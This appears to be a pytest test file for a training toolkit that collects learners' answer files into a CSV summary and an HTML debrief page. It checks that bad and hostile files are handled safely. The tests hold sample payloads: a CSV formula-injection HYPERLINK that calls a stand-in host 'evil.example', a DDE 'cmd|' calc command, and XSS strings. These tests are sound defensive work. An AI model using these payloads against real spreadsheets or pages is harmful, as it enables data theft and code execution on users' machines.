"""Cohort collection over good, corrupt and hostile answer files: what a trainer gets."""

from __future__ import annotations

import csv
import html
import json
import os
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

from toolkit import cohort
from toolkit.cli import main
from toolkit.cohort import numeric
from toolkit.cohort import reading as cohort_gather
from toolkit.errors import ToolkitError

ANSWERS = Path(__file__).parent / "data" / "answers"
DEFS = ANSWERS / "exercises"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

EXPECTED_SKIPPED = [
    "corrupt/90-demo-all-types.corrupt-20261120T101500000000Z.json: was set aside earlier "
    "because it could not be read",
    'corrupt/bad-attempts.json: answer "90-confidence": "attempts" is -1, expected a whole '
    "number >= 0",
    "corrupt/binary.json: is not UTF-8 text (not an answer file)",
    "corrupt/deeply-nested.json: is not valid JSON (too deeply nested or too large a number)",
    "corrupt/empty.json: is empty",
    "corrupt/newer-schema.json: it was written by a newer Every Call (schema version 7; this "
    "toolkit reads up to 1): update the toolkit",
    'corrupt/package.json: it has no "format": "everycall-answers" (not an answer file)',
    "corrupt/truncated.json: is not valid JSON (line 1, column 145)",
]


@pytest.fixture(scope="module")
def collected(tmp_path_factory):
    out = tmp_path_factory.mktemp("debrief") / "cohort-summary.csv"
    return cohort.collect(ANSWERS, out=out, exercises_dir=DEFS)


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[str] = []
        self.text = ""
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append("")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data
        else:
            self.text += data


def test_bad_and_foreign_files_are_reported_and_skipped(collected):
    assert collected.skipped == EXPECTED_SKIPPED
    assert collected.files_read == 6  # 3 good, 3 hostile; profile.json and notes.txt ignored
    assert "Skipped 8 files" in collected.summary()


def test_good_answers_are_summarised_and_marked_again(collected):
    rows = {(r["learner"], r["exercise_id"]): r for r in collected.rows}
    assert rows[("Amira", "90-dvpo-hearing")]["correct"] == "yes"
    assert rows[("Ben", "90-dash-threshold")]["response"] == "10"
    # Chloe's file claims her wrong answer was right; the current key decides.
    assert rows[("Chloe", "90-dvpo-hearing")]["correct"] == "no"
    assert rows[("Amira", "90-dhr-steps")]["response"].count(" > ") == 3
    flags = [r for r in collected.rows if r["type"] == "flag" and r["learner"] == "Ben"]
    assert [f["response"] for f in flags] == ["E07", "E11"]
    table = cohort.summary_table(cohort.load_summary(collected.csv_path)).set_index("exercise_id")
    assert table.loc["90-dvpo-hearing", "answered"] == 4
    assert table.loc["90-dvpo-hearing", "right"] == 1


def test_csv_cells_cannot_run_as_formulas(collected):
    cells = [c for row in _cells(collected.csv_path) for c in row]
    risky = [c for c in cells if c.lstrip().startswith(DANGEROUS) or c.startswith(("\t", "\r"))]
    assert [c for c in risky if not re.fullmatch(r"-?\d+(\.\d+)?", c)] == []
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Open me")' in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'+SUM(A1:A9)" in cells and "'=1+1" in cells
    assert "-3" in cells and "'-3" not in cells  # a plain number cannot run: left as typed


def test_csv_reads_back_exactly(collected):
    frame = cohort.load_summary(collected.csv_path)
    assert frame.to_dict("records") == [{c: r[c] for c in cohort.COLUMNS} for r in collected.rows]
    assert '=HYPERLINK("http://evil.example/?"&A1,"Open me")' in set(frame["learner"])


def test_debrief_page_has_no_live_script_from_learners(collected):
    page = collected.html_path.read_text(encoding="utf-8")
    parser = _Tags()
    parser.feed(page)
    assert {tag for tag, _ in parser.tags}.isdisjoint({"img", "svg", "iframe", "object"})
    assert not [a for _, attrs in parser.tags for a, _ in attrs if a.startswith("on")]
    for script in parser.scripts:
        assert "alert(" not in script and "</script" not in script.lower()
    assert "&lt;script&gt;alert(&#x27;free text&#x27;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;svg onload=alert(&#x27;flag&#x27;)&gt;" in page


def test_debrief_page_works_offline_with_plotly_inline_once(collected):
    page = collected.html_path.read_text(encoding="utf-8")
    parser = _Tags()
    parser.feed(page)
    sources = [dict(attrs).get("src") for tag, attrs in parser.tags if tag == "script"]
    assert sources and all(src is None for src in sources)
    assert page.count("plotly.js v") == 1
    assert page.count("Plotly.newPlot(") == 6  # 5 charted exercises and one case's flags
    assert page.startswith("<!DOCTYPE html>") and '<html lang="en-GB">' in page


def test_anonymise_hides_names_and_file_paths(tmp_path):
    result = cohort.collect(ANSWERS, out=tmp_path / "anon.csv", anonymise=True, exercises_dir=DEFS)
    text = (tmp_path / "anon.csv").read_text(encoding="utf-8-sig")
    parser = _Tags()
    parser.feed((tmp_path / "anon.html").read_text(encoding="utf-8"))
    page = parser.text  # what a reader sees, not plotly.js (which has "isSegmentBent")
    for name in ("Amira", "Ben", "Chloe", "HYPERLINK", "Tabbed", "amira/"):
        assert name not in text and name not in page
    assert "Learner 1" in page
    assert result.learners == [f"Learner {i}" for i in range(1, 7)]
    assert {r["file"] for r in result.rows} == {f"file {i}" for i in range(1, 7)}


def test_second_file_for_the_same_learner_keeps_the_newer(tmp_path):
    folder = tmp_path / "in"
    shutil.copytree(ANSWERS / "good", folder)
    copy = json.loads((folder / "ben" / "90-demo-all-types.json").read_text())
    copy["updated"] = "2026-11-21T09:00:00+00:00"
    copy["answers"]["90-confidence"]["value"] = "Very"
    (folder / "ben-again.json").write_text(json.dumps(copy))
    result = cohort.gather(folder, exercises_dir=DEFS)
    assert result.skipped == [
        "ben/90-demo-all-types.json: a second file for Ben, 90-demo-all-types; kept the newer "
        "one (ben-again.json)"
    ]
    (ben,) = [r for r in result.rows if r["learner"] == "Ben" and r["type"] == "confidence"]
    assert ben["response"] == "Very"


def test_oversized_file_is_skipped_unread(tmp_path):
    (tmp_path / "huge.json").write_bytes(b" " * (cohort_gather.MAX_FILE_BYTES + 1))
    result = cohort.gather(tmp_path)
    assert result.skipped == ["huge.json: is 2.0 MB, larger than any answer file (limit 2 MB)"]


def test_empty_folder_is_an_error_and_nothing_is_written(tmp_path, capsys, monkeypatch):
    empty = tmp_path / "handed-in"
    empty.mkdir()
    (empty / "notes.txt").write_text("not an answer file")
    monkeypatch.chdir(tmp_path)
    assert main(["answers", "collect", str(empty)]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err.strip() == (
        f"everycall answers: {empty}: no answer files found: expected <learner>/<notebook>.json "
        "files as the notebooks save them in ~/everycall-answers (for example "
        "sam-patel/01-reading-a-case-timeline.json); nothing was written"
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["handed-in"]  # no CSV, no HTML


def test_folder_of_unreadable_files_is_an_error_listing_them(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert main(["answers", "collect", str(ANSWERS / "corrupt")]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert "none of the files found is a readable answer file" in err
    assert "  skipped: empty.json: is empty" in err.splitlines()  # names are relative to DIR
    assert list(tmp_path.iterdir()) == []


def test_cli_collects_and_lists_skipped_files(tmp_path, capsys, monkeypatch):
    folder = tmp_path / "cohort"
    shutil.copytree(ANSWERS / "good", folder / "good")
    shutil.copytree(ANSWERS / "corrupt", folder / "corrupt")
    monkeypatch.chdir(tmp_path)
    # the summary is written, and the exit status says a learner's work is missing from it
    assert main(["answers", "collect", str(folder)]) == 2
    out, err = capsys.readouterr()
    assert "skipped: corrupt/empty.json: is empty" in err
    unread = len(list((ANSWERS / "corrupt").rglob("*.json")))
    assert err.splitlines()[-1].startswith(
        f"everycall answers: {unread} files could not be read in full (skipped above"
    )
    assert "Ask those learners to send the file again" in err.splitlines()[-1]
    assert f"Summary: {tmp_path / 'cohort-summary.csv'}" in out
    assert (tmp_path / "cohort-summary.html").is_file()


def test_a_second_copy_of_a_file_is_not_a_failure(tmp_path, capsys, monkeypatch):
    folder = tmp_path / "cohort"
    shutil.copytree(ANSWERS / "good", folder / "laptop-1")
    shutil.copytree(ANSWERS / "good", folder / "laptop-2")
    monkeypatch.chdir(tmp_path)
    assert main(["answers", "collect", str(folder)]) == 0
    assert "read once" in capsys.readouterr().err


def test_debrief_charts_count_learners_in_whole_numbers():
    frame = cohort.demo_summary(learners=3)
    for ex_id, fig in cohort.figures(frame):
        counted = (
            fig.layout.xaxis if fig.layout.xaxis.title.text == "learners" else fig.layout.yaxis
        )
        assert counted.title.text == "learners", ex_id
        assert counted.tickformat == "d" and counted.dtick == 1, ex_id


def test_cli_missing_folder_is_one_clear_message(tmp_path, capsys):
    assert main(["answers", "collect", str(tmp_path / "nope")]) == 2
    err = capsys.readouterr().err
    assert err.strip() == (
        f"everycall answers: {tmp_path / 'nope'} is not a folder: expected "
        "the folder that holds learners' answer files (.json)"
    )


def test_out_must_be_a_csv(tmp_path):
    with pytest.raises(ToolkitError, match="expected a file name ending in .csv"):
        cohort.collect(ANSWERS / "good", out=tmp_path / "summary.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_demo_cohort_feeds_the_debrief_notebook():
    frame = cohort.demo_summary(learners=4)
    assert set(frame["learner"]) == {"Amira", "Ben", "Chloe", "Dev"}
    charts = dict(cohort.figures(frame))
    assert "00-stepping-away" in charts and "00-confidence" in charts
    bars = charts["00-stepping-away"].data[0]
    assert sum(bars.x) == 4


def test_load_summary_names_a_missing_column(tmp_path):
    bad = tmp_path / "other.csv"
    bad.write_text("learner,score\nSam,3\n")
    with pytest.raises(ToolkitError, match='column "notebook" is missing; expected the columns'):
        cohort.load_summary(bad)


def test_options_are_shown_whole_on_wrapped_lines_and_the_right_one_is_ticked():
    from toolkit.exercises import load_definitions

    frame = cohort.demo_summary(learners=3)
    bars = dict(cohort.figures(frame))["00-stepping-away"].data[0]
    ticked = [label for label in bars.y if label.endswith(" ✓")]
    assert len(ticked) == 1 and ticked[0].startswith("Step away at any time")
    assert all(len(line) <= 45 for label in bars.y for line in label.split("<br>"))
    whole = [label.replace("<br>", " ").removesuffix(" ✓") for label in bars.y]
    options = [o.text for o in load_definitions()["00-stepping-away"].options]
    assert whole == options  # nothing cut short with an ellipsis


def test_the_debrief_page_names_questions_cases_and_types_in_words(tmp_path):
    demo = tmp_path / "in"
    cohort.demo_cohort(demo, learners=3)
    _flags = {
        "flags:unlinked-calls": [
            {
                "event_id": "E05",
                "opportunity_type": "repeat_calls_not_linked",
                "reason": "Second call",
            }
        ]
    }
    folder = demo / "zed"
    folder.mkdir()
    (folder / "02-missed-opportunities.json").write_text(
        json.dumps({"format": "everycall-answers", "schema_version": 1,
                    "notebook": "02-missed-opportunities", "learner": "Zed",
                    "answers": {k: {"value": v, "attempts": 0} for k, v in _flags.items()}}),
        encoding="utf-8",
    )  # fmt: skip
    cohort.collect(demo, out=tmp_path / "out" / "cohort.csv")
    page = (tmp_path / "out" / "cohort.html").read_text(encoding="utf-8")
    for raw in ("exercise_id", "right_pct", "mean_attempts", "repeat_calls_not_linked"):
        assert raw not in page, raw
    headings = re.findall(r"<h[1-3][^>]*>(.*?)</h[1-3]>", page)
    assert not [h for h in headings if "flags:" in h or "_" in h], headings
    # nor anywhere a trainer reads: the summary's links and the line under each heading
    text = re.sub(r"<[^>]+>", " ", re.sub(r"<script.*?</script>", "", page, flags=re.S))
    assert "flags:" not in text and "coding:" not in text
    assert html.escape('Missed opportunities flagged in the case "Every call on its own"') in (
        headings
    )
    assert "Repeat calls not linked: Second call" in page
    assert "…" not in page  # no question or option cut short
    from toolkit.cohort.page import _label
    from toolkit.exercises import load_definitions

    prompt = html.escape(_label(load_definitions()["00-stepping-away"]))
    assert page.count(f"<h3>{prompt}</h3>") == 1  # the question once, whole, as a heading


def test_with_one_learner_the_page_says_the_charts_fill_in(tmp_path):
    cohort.demo_cohort(tmp_path / "in", learners=1)
    cohort.collect(tmp_path / "in", out=tmp_path / "out.csv")
    assert "the charts fill in as more answers arrive" in (tmp_path / "out.html").read_text()


def _answer_file(folder: Path, learner: str, answers: dict, *, updated: str | None = None) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    data = {
        "format": "everycall-answers",
        "schema_version": 1,
        "notebook": "90-demo-all-types",
        "learner": learner,
        "updated": updated,
        "answers": {k: {"value": v, "attempts": 1} for k, v in answers.items()},
    }
    (folder / "90-demo-all-types.json").write_text(json.dumps(data), encoding="utf-8")


# ---------------------------------------------------------------------------- numbers in the CSV


@pytest.mark.parametrize(
    ("value", "cell"),
    [(1234567, "1234567"), (-5, "-5"), (12.5, "12.5"), (0.1234567, "0.1234567"), (-0.5, "-0.5")],
)
def test_numeric_answers_keep_every_digit_and_no_apostrophe(tmp_path, value, cell):
    _answer_file(tmp_path / "in" / "sam", "Sam", {"90-dash-threshold": value})
    result = cohort.collect(tmp_path / "in", out=tmp_path / "out.csv", exercises_dir=DEFS)
    (row,) = [r for r in result.rows if r["exercise_id"] == "90-dash-threshold"]
    assert row["response"] == cell
    assert cell in [c for line in _cells(tmp_path / "out.csv") for c in line]


def test_plain_numbers_are_not_escaped_but_formulas_still_are():
    assert [cohort.csv_safe(t) for t in ("-5", "-12.25", "5", "-5+1", "-1e3", " -5", "-")] == [
        "-5",
        "-12.25",
        "5",
        "'-5+1",
        "'-1e3",
        "' -5",
        "'-",
    ]


def test_a_number_too_large_is_skipped_and_the_rest_collected(tmp_path, capsys, monkeypatch):
    folder = tmp_path / "in"
    shutil.copytree(ANSWERS / "good", folder)
    (folder / "crafted").mkdir()
    (folder / "crafted" / "90-demo-all-types.json").write_text(
        '{"format": "everycall-answers", "schema_version": 1, "notebook": "90-demo-all-types", '
        '"learner": "Crafted", "answers": {"90-dash-threshold": {"value": 1'
        + "0" * 400
        + ', "attempts": 1}}}'
    )
    monkeypatch.chdir(tmp_path)
    assert main(["answers", "collect", str(folder)]) == 2  # written, but one answer is missing
    out, err = capsys.readouterr()
    assert (
        'skipped: crafted/90-demo-all-types.json: answer "90-dash-threshold": the value holds a '
        "number that is not finite or too large" in err
    )
    assert "Traceback" not in err and "3 learners" in out


# ---------------------------------------------------------------------------- who is who


def test_two_learners_with_the_same_name_in_different_folders_are_both_kept(tmp_path):
    _answer_file(tmp_path / "laptop-1" / "sam", "Sam", {"90-confidence": "Very"})
    _answer_file(tmp_path / "laptop-2" / "sam", "Sam", {"90-confidence": "A little"})
    result = cohort.gather(tmp_path, exercises_dir=DEFS)
    assert result.skipped == []
    assert result.learners == ["Sam (laptop-1)", "Sam (laptop-2)"]
    answers = {r["learner"]: r["response"] for r in result.rows}
    assert answers == {"Sam (laptop-1)": "Very", "Sam (laptop-2)": "A little"}
    assert "2 learners named Sam, in different folders, are shown apart" in result.summary()


def test_the_newer_file_is_found_by_time_not_by_text(tmp_path):
    # 09:00 in Paris is 08:00 UTC: older than 08:30 UTC, though "09" sorts after "08".
    _answer_file(
        tmp_path / "ben", "Ben", {"90-confidence": "Very"}, updated="2026-11-21T09:00:00+01:00"
    )
    _answer_file(
        tmp_path / "copy" / "ben" / "again",
        "Ben",
        {"90-confidence": "Fairly"},
        updated="2026-11-21T08:30:00+00:00",
    )
    (tmp_path / "ben-again.json").write_text(
        (tmp_path / "copy" / "ben" / "again" / "90-demo-all-types.json").read_text()
    )
    shutil.rmtree(tmp_path / "copy")
    result = cohort.gather(tmp_path, exercises_dir=DEFS)
    assert result.skipped == [
        "ben/90-demo-all-types.json: a second file for Ben, 90-demo-all-types; kept the newer "
        "one (ben-again.json)"
    ]
    (ben,) = [r for r in result.rows if r["type"] == "confidence"]
    assert ben["response"] == "Fairly"


def test_a_second_file_saved_at_the_same_time_is_not_called_newer(tmp_path):
    same = "2026-11-21T09:00:00+00:00"
    _answer_file(tmp_path / "ben", "Ben", {"90-confidence": "Very"}, updated=same)
    _answer_file(tmp_path / "again", "Ben", {"90-confidence": "Fairly"}, updated=same)
    (tmp_path / "again" / "90-demo-all-types.json").rename(tmp_path / "ben-again.json")
    result = cohort.gather(tmp_path, exercises_dir=DEFS)
    (message,) = result.skipped
    assert "kept the newer one" not in message
    assert message == (
        "ben-again.json: a second file for Ben, 90-demo-all-types; the files do not show which "
        "is newer, so the first one read was kept (ben/90-demo-all-types.json)"
    )


def test_a_file_copied_unchanged_into_another_folder_is_read_once(tmp_path):
    _answer_file(tmp_path / "sam-patel", "Sam Patel", {"90-confidence": "Very"})
    shutil.copytree(tmp_path / "sam-patel", tmp_path / "copy" / "sam-patel")
    result = cohort.gather(tmp_path, exercises_dir=DEFS)
    assert result.learners == ["Sam Patel"] and len(result.rows) == 1
    assert result.skipped == [
        "sam-patel/90-demo-all-types.json: the same answers as "
        "copy/sam-patel/90-demo-all-types.json; read once"
    ]


def test_files_set_aside_after_merging_are_not_read_as_answers(tmp_path):
    _answer_file(tmp_path / "sam", "Sam", {"90-confidence": "Very"})
    unnamed = tmp_path / "_unnamed"
    _answer_file(unnamed, None, {"90-confidence": "Fairly"})
    (unnamed / "90-demo-all-types.json").rename(
        unnamed / "90-demo-all-types.merged-20261123T101500000000Z.json"
    )
    result = cohort.gather(tmp_path, exercises_dir=DEFS)
    assert result.learners == ["Sam"]
    assert result.skipped == [
        "_unnamed/90-demo-all-types.merged-20261123T101500000000Z.json: was kept aside after its "
        "answers were added to the learner's own file"
    ]


# ---------------------------------------------------------------------------- anonymised


def test_anonymise_hides_names_in_skipped_files_too(tmp_path, capsys, monkeypatch):
    folder = tmp_path / "in"
    shutil.copytree(ANSWERS / "good", folder)
    _answer_file(
        folder / "sam-patel",
        "Sam Patel",
        {"90-confidence": "Very"},
        updated="2026-11-20T09:00:00+00:00",
    )
    _answer_file(
        folder / "copy" / "sam-patel",
        "Sam Patel",
        {"90-confidence": "Fairly"},
        updated="2026-11-21T09:00:00+00:00",
    )
    (folder / "copy" / "sam-patel" / "90-demo-all-types.json").rename(
        folder / "sam-patel" / "90-demo-all-types (1).json"
    )
    (folder / "amira-khan").mkdir()
    (folder / "amira-khan" / "01-reading-a-case-timeline.json").write_text("{ torn")
    monkeypatch.chdir(tmp_path)
    assert main(["answers", "collect", str(folder), "--anonymise"]) == 2  # the torn file
    out, err = capsys.readouterr()
    parser = _Tags()
    parser.feed((tmp_path / "cohort-summary.html").read_text(encoding="utf-8"))
    shown = [err, out, parser.text, (tmp_path / "cohort-summary.csv").read_text("utf-8-sig")]
    for name in ("Sam", "sam-patel", "Amira", "amira", "Ben", "ben/", "Chloe", "chloe"):
        assert not [text for text in shown if name in text], name
    assert "skipped: file " in err and ": is not valid JSON (line 1, column 3)" in err
    assert "a second file for Learner " in err and "kept the newer one (file " in err
    assert "Files skipped" in parser.text and "is not valid JSON" in parser.text
    assert "run without --anonymise to see which" in out


def test_anonymised_file_numbers_do_not_follow_the_alphabet(tmp_path, monkeypatch):
    monkeypatch.setenv("EVERYCALL_HANDOUT", "1")  # a fixed shuffle, so the test cannot flake
    names = ("Amira", "Ben", "Chloe", "Dev", "Ellie", "Femi")
    for i, name in enumerate(names):
        _answer_file(tmp_path / name.lower(), name, {"90-calm-caller": f"reflection {i}"})
    result = cohort.gather(tmp_path, anonymise=True, exercises_dir=DEFS)
    by_folder = [r["file"] for r in sorted(result.rows, key=lambda r: r["response"])]
    assert sorted(by_folder) == sorted(f"file {i}" for i in range(1, 7))
    assert by_folder != [f"file {i}" for i in range(1, 7)]  # "file 1" is not Amira's


# ---------------------------------------------------------------------------- numeric charts


def _numeric_cohort(folder: Path, answers: dict[str, float]) -> Path:
    for name, value in answers.items():
        _answer_file(folder / name.lower(), name, {"90-dash-threshold": value})
    return folder


def _numeric_chart(tmp_path: Path, answers: dict[str, float]):
    folder = _numeric_cohort(tmp_path / "in", answers)
    result = cohort.collect(folder, out=tmp_path / "x.csv", exercises_dir=DEFS)
    frame = cohort.load_summary(result.csv_path)
    return dict(cohort.figures(frame, exercises_dir=DEFS))["90-dash-threshold"]


def test_whole_number_answers_get_one_bar_per_value(tmp_path):
    fig = _numeric_chart(tmp_path, {"Sam": 12, "Alex": 14, "Jo": 14})
    (bars,) = fig.data
    assert bars.type == "bar"
    assert list(bars.x) == [12, 14] and list(bars.y) == [1, 2]  # not one block from 11.5 to 14.5
    assert 0.5 <= bars.width < 1  # one unit wide, with a gap between neighbours
    assert fig.layout.xaxis.dtick == 1 and fig.layout.xaxis.tickformat == ",.0f"  # every value
    assert list(bars.hovertext) == ["12 answers: 1 learner", "14 answers: 2 learners"]


def test_the_correct_answer_is_a_visible_labelled_line(tmp_path):
    fig = _numeric_chart(tmp_path, {"Sam": 12, "Alex": 14})
    lines = [s for s in fig.layout.shapes if s.type == "line" and s.line.color != "white"]
    assert [(s.x0, s.x1) for s in lines] == [(14, 14)]
    # simple_white draws shapes with no line at 0.3 opacity: the line must say otherwise
    assert lines[0].line.width >= 2 and lines[0].opacity == 1
    assert [a.text for a in fig.layout.annotations] == ["correct answer: 14 answers"]


def test_answers_spread_wide_are_counted_in_round_bins(tmp_path):
    answers = {"Sam": 14, "Alex": 14, "Jo": 140, "Kim": 1.5, "Lee": 13.25}
    fig = _numeric_chart(tmp_path, answers)
    (bars,) = fig.data
    assert sum(bars.y) == len(answers)  # every answer counted once
    width = bars.width / 0.92
    assert width == 10  # 1, 2 or 5 times a power of ten, about 20 bins across the answers
    assert "10 to under 20 answers: 3 learners" in list(bars.hovertext)
    assert len(bars.x) <= 21


def test_non_integer_answers_with_many_places_get_sensible_bins():
    bins = numeric.numeric_bins([0.1234567, 0.2, 0.25, 0.9], 0.25)
    assert not bins.per_value and bins.width == 0.05 and sum(bins.counts) == 4
    assert bins.labels[0] == "0.10 to under 0.15: 1 learner"
    assert len(set(bins.centres)) == len(bins.centres)


def test_debrief_figure_says_in_words_how_many_gave_the_correct_answer(tmp_path):
    folder = _numeric_cohort(tmp_path / "in", {"Sam": 12, "Alex": 14, "Jo": "fourteen"})
    result = cohort.collect(folder, out=tmp_path / "x.csv", exercises_dir=DEFS)
    parser = _Tags()
    parser.feed(result.html_path.read_text(encoding="utf-8"))
    assert (
        "3 learners answered. 1 of 3 gave the correct answer, 14 answers. Answers given: "
        "12 answers: 1 learner; 14 answers: 1 learner. 1 answer(s) were not numbers and are "
        "not in the chart."
    ) in parser.text
    captions = [dict(attrs)["id"] for tag, attrs in parser.tags if tag == "figcaption"]
    assert captions == ["chart-1-caption"]
    assert "setAttribute('aria-describedby', 'chart-1-caption')" in "".join(parser.scripts)


@pytest.mark.browser
@pytest.mark.slow
def test_numeric_chart_in_chromium_shows_bars_line_and_description(tmp_path):
    from concurrent.futures import ThreadPoolExecutor

    from toolkit.errors import BrowserNotFoundError
    from toolkit.handouts.browser import find_chromium

    try:
        find_chromium()
    except BrowserNotFoundError as exc:
        if os.environ.get("CI") == "true":
            pytest.fail(f"CI=true needs a browser: {exc}")
        pytest.skip(f"no browser: {exc}")
    folder = _numeric_cohort(tmp_path / "in", {"Sam": 12, "Alex": 14})
    result = cohort.collect(folder, out=tmp_path / "x.csv", exercises_dir=DEFS)
    # In a thread of its own: the browser tests' sync Playwright fixtures keep an event loop
    # running in the main thread, and the sync API refuses to start inside one.
    with ThreadPoolExecutor(max_workers=1) as pool:
        pool.submit(_check_numeric_chart, result.html_path).result()


def _check_numeric_chart(page_path: Path) -> None:
    from playwright.sync_api import sync_playwright

    from toolkit.handouts.browser import launch

    with sync_playwright() as p:
        browser = launch(p)
        try:
            page = browser.new_page(viewport={"width": 1000, "height": 900})
            page.goto(page_path.as_uri(), wait_until="load")
            page.wait_for_selector("#chart-1 .main-svg")
            svg = page.locator("#chart-1 .main-svg").first
            assert svg.get_attribute("role") == "img"
            described = page.locator("#" + svg.get_attribute("aria-describedby"))
            assert "1 of 2 gave the correct answer, 14 answers" in described.inner_text()
            assert page.locator("#chart-1 .bars .point").count() == 2
            ticks = page.locator("#chart-1 .xtick text").evaluate_all(
                "ts => ts.map(t => t.textContent)"
            )
            assert {"12", "13", "14"} <= set(ticks)
            strokes = page.locator("#chart-1 .shapelayer path").evaluate_all(
                "ps => ps.map(p => getComputedStyle(p)).map(s => [s.stroke, s.strokeWidth,"
                " s.opacity])"
            )
            drawn = [s for s in strokes if s[0] not in ("rgb(255, 255, 255)", "none")]
            assert len(drawn) == 1 and float(drawn[0][1].rstrip("px")) >= 2
            assert float(drawn[0][2]) == 1  # not the template's faint 0.3
            label = page.locator("#chart-1 .annotation-text").first
            assert label.text_content() == "correct answer: 14 answers" and label.is_visible()
        finally:
            browser.close()


def test_every_debrief_chart_carries_its_text_description():
    frame = cohort.demo_summary(learners=3)
    charts = cohort.figures(frame)
    assert charts
    for ex_id, fig in charts:
        description = fig.layout.meta["description"]
        assert description.startswith("3 learners"), (ex_id, description)
